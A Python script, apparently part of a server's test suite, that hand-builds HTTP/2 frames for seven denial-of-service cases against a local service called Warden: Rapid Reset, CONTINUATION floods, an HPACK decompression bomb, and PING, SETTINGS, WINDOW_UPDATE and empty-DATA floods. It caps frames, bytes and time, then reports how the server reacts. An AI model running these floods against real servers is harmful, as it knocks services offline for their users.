"""Raw HTTP/2 attacks against Warden's REST port over TLS (ALPN h2), one per run.

    h2_floods.py PORT CA_PEM TOKEN CASE

Frames are built with hyperframe/hpack (from the `h2` package) and written straight to
the socket, so nothing in a client library can tidy the attack up. Everything is bounded:
a hard cap on frames, on bytes and on seconds, and a socket timeout. Prints one JSON
object: what was sent, whether and how the server ended the connection (GOAWAY and its
error code, or a close), and how many frames came back.

Cases:
  rapid_reset   HEADERS then RST_STREAM, over and over (CVE-2023-44487)
  continuation  HEADERS without END_HEADERS, then endless CONTINUATION (CVE-2024-27316 style)
  hpack_bomb    one large header into the HPACK dynamic table, then a header block that
                references it thousands of times (tiny on the wire, huge decoded)
  ping          PING frames without reading the ACKs
  settings      SETTINGS frames without reading the ACKs
  window_update WINDOW_UPDATE frames of increment 1 (connection and a stream)
  empty_data    an open POST stream, then zero-length DATA frames
"""

import json
import select
import socket
import ssl
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_SECONDS = 12.0
MAX_BYTES = 64 << 20


class Conn:
    def __init__(self, port, ca):
        ctx = ssl.create_default_context(cafile=ca)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2", "server did not pick h2"
        self.sock.settimeout(5)
        self.buf = b""
        self.sent_frames = 0
        self.sent_bytes = 0
        self.goaway = None
        self.closed = False
        self.write_failed = False
        self.error = None
        self.frames_in = {}
        self.statuses = []
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())

    def send(self, data, frames=1):
        """Sends bytes; False once the server has closed the connection (or stopped
        taking bytes). A failed write does not end the reading: what the server sent
        before it closed (its GOAWAY) is still in the socket, and `pump` reads it."""
        if self.closed or self.write_failed:
            return False
        try:
            self.sock.sendall(data)
        except (OSError, ssl.SSLError) as e:
            self.write_failed = True
            self.error = type(e).__name__
            return False
        self.sent_frames += frames
        self.sent_bytes += len(data)
        return True

    def pump(self, wait=0.0):
        """Reads whatever the server sent (up to `wait` seconds for the first bytes)."""
        if self.closed:
            return
        deadline = time.monotonic() + wait
        while True:
            left = max(0.0, deadline - time.monotonic())
            if self.sock.pending() == 0:
                r, _, _ = select.select([self.sock], [], [], left)
                if not r:
                    return
            try:
                chunk = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except (OSError, ssl.SSLError) as e:
                self.closed = True
                self.error = self.error or type(e).__name__
                return
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            self._parse()
            if self.goaway is not None:
                return
            if wait == 0.0 and self.sock.pending() == 0:
                r, _, _ = select.select([self.sock], [], [], 0)
                if not r:
                    return

    def _parse(self):
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            body = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            frame.parse_body(memoryview(body))
            name = type(frame).__name__
            self.frames_in[name] = self.frames_in.get(name, 0) + 1
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            if isinstance(frame, HeadersFrame):
                # The server's HPACK is not tracked; ":status" is the first byte
                # when it is an indexed static entry (0x88 = 200, 0x8d = 404, ...).
                self.statuses.append(frame.data[:1].hex())

    def wait_end(self, seconds):
        """Reads until GOAWAY/close or `seconds` pass."""
        deadline = time.monotonic() + seconds
        while not self.closed and self.goaway is None and time.monotonic() < deadline:
            self.pump(wait=min(0.2, max(0.0, deadline - time.monotonic())))


def headers_block(enc, method, path, token, extra=()):
    hs = [
        (":method", method),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", path),
        ("authorization", "Bearer " + token),
    ]
    hs.extend(extra)
    return enc.encode(hs)


def run(port, ca, token, case, count):
    c = Conn(port, ca)
    enc = Encoder()
    start = time.monotonic()
    stream = 1

    def budget():
        return (
            not c.closed
            and not c.write_failed
            and c.goaway is None
            and time.monotonic() - start < MAX_SECONDS
            and c.sent_bytes < MAX_BYTES
        )

    if case == "rapid_reset":
        i = 0
        batch = []
        while i < count and budget():
            h = HeadersFrame(stream, headers_block(enc, "GET", "/v2/models/addn", token))
            h.flags.add("END_HEADERS")
            h.flags.add("END_STREAM")
            r = RstStreamFrame(stream)
            r.error_code = 8  # CANCEL
            batch.append(h.serialize() + r.serialize())
            stream += 2
            i += 1
            if len(batch) == 50:
                c.send(b"".join(batch), frames=100)
                batch = []
                c.pump()
        if batch:
            c.send(b"".join(batch), frames=2 * len(batch))
    elif case == "continuation":
        h = HeadersFrame(stream, headers_block(enc, "GET", "/v2/models/addn", token))
        c.send(h.serialize())
        junk = Encoder().encode([("x-junk", "a" * 1000)])
        i = 0
        while i < count and budget():
            f = ContinuationFrame(stream, junk)
            c.send(f.serialize())
            i += 1
            if i % 64 == 0:
                c.pump()
    elif case == "hpack_bomb":
        # Fill the dynamic table with one 4000-byte header (incremental indexing) ...
        big = ("x-bomb", "b" * 4000)
        first = enc.encode(
            [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"),
             (":path", "/v2/health/live"), big]
        )
        h = HeadersFrame(stream, first)
        h.flags.add("END_HEADERS")
        h.flags.add("END_STREAM")
        c.send(h.serialize())
        stream += 2
        c.pump(wait=0.5)
        # ... then reference it (index 62: newest dynamic entry) 1 byte per 4 KB.
        i = 0
        while i < count and budget():
            # Never-indexed pseudo-headers, so index 62 stays the big entry.
            block = enc.encode(
                [(":method", "GET", True), (":scheme", "https", True),
                 (":authority", "localhost", True), (":path", "/v2/health/live", True)]
            ) + b"\xbe" * 16000
            h = HeadersFrame(stream, block)
            h.flags.add("END_HEADERS")
            h.flags.add("END_STREAM")
            c.send(h.serialize())
            stream += 2
            i += 1
            c.pump()
    elif case == "ping":
        i = 0
        while i < count and budget():
            c.send(b"".join(PingFrame(0, opaque_data=(i + k).to_bytes(8, "big")).serialize()
                            for k in range(100)), frames=100)
            i += 100
    elif case == "settings":
        i = 0
        while i < count and budget():
            s = SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096 + (i % 7)})
            c.send(s.serialize() * 100, frames=100)
            i += 100
    elif case == "window_update":
        h = HeadersFrame(stream, headers_block(enc, "GET", "/v2/models/addn", token))
        h.flags.add("END_HEADERS")
        c.send(h.serialize())
        i = 0
        while i < count and budget():
            frames = b"".join(
                WindowUpdateFrame(0 if k % 2 else stream, window_increment=1).serialize()
                for k in range(100)
            )
            c.send(frames, frames=100)
            i += 100
    elif case == "empty_data":
        h = HeadersFrame(stream, headers_block(enc, "POST", "/v2/models/addn/infer", token,
                                               [("content-type", "application/json")]))
        h.flags.add("END_HEADERS")
        c.send(h.serialize())
        empty = DataFrame(stream, b"").serialize()
        i = 0
        while i < count and budget():
            c.send(empty * 200, frames=200)
            i += 200
            if i % 2000 == 0:
                c.pump()
    else:
        raise SystemExit("unknown case " + case)

    sending = time.monotonic() - start
    c.wait_end(3.0)
    print(json.dumps({
        "case": case,
        "frames_sent": c.sent_frames,
        "bytes_sent": c.sent_bytes,
        "send_seconds": round(sending, 3),
        "goaway": c.goaway,
        "closed": c.closed or c.write_failed or c.goaway is not None,
        "error": c.error,
        "frames_in": c.frames_in,
    }))


if __name__ == "__main__":
    port, ca, token, case = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
    count = int(sys.argv[5]) if len(sys.argv) > 5 else 20000
    run(port, ca, token, case, count)
